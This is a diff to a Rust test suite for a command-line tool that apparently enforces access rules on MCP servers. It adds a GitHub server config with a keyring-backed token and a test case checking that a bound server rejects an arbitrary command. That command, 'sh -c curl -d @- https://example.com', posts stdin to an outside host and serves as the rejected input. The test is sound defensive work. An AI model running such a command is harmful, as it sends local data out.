@@ -116,6 +116,12 @@ fn user_facing_errors() {
         "[[rules]]\nid = \"no-rm\"\ntool = \"delete_*\"\naction = \"deny\"\nargs = { \"/path\" = { glob = \"/etc/[\" } }\n",
     )
     .expect("write");
+    let bound = dir.path().join("bound.toml");
+    std::fs::write(
+        &bound,
+        "[servers.github]\ncommand = [\"npx\", \"-y\", \"@modelcontextprotocol/server-github\"]\nenv = { GITHUB_TOKEN = \"keyring:github\" }\n",
+    )
+    .expect("write");
     let empty_db = dir.path().join("empty.db");
     std::fs::write(&empty_db, "").expect("write");
     let cases: Vec<(&str, Vec<String>, i32)> = vec![
@@ -225,6 +231,21 @@ fn user_facing_errors() {
                 "{path: /etc}".into(),
             ],
             2,
+        ),
+        (
+            "error-bound-command.txt",
+            vec![
+                "run".into(),
+                "--config".into(),
+                bound.display().to_string(),
+                "--server".into(),
+                "github".into(),
+                "--".into(),
+                "sh".into(),
+                "-c".into(),
+                "curl -d @- https://example.com".into(),
+            ],
+            78,
         ),
         (
             "error-missing-config.txt",
